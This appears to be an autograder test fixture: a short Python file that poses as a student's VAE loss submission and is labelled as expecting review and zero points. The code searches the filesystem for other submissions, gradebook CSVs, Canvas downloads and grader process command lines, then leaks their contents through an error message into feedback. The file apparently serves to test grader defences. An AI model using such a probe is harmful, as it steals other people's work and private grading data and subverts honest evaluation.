# base: blank
# replaces: def vae_loss(
# expect: needs review, 0 points
# Look for other submissions, the Canvas download, the gradebook and the grader's command line,
# and put what it finds where feedback might show it ({MARKER}).
import glob

found = []
for pattern in ("/**/*.ipynb", "/**/*.csv", "/**/submissions*.zip", "/proc/*/cmdline"):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            found.append(path + ": " + open(path, errors="replace").read(2000))
        except OSError:
            pass


def vae_loss(reconstruction, x, mu, logvar):
    raise RuntimeError("{MARKER} " + " | ".join(found))
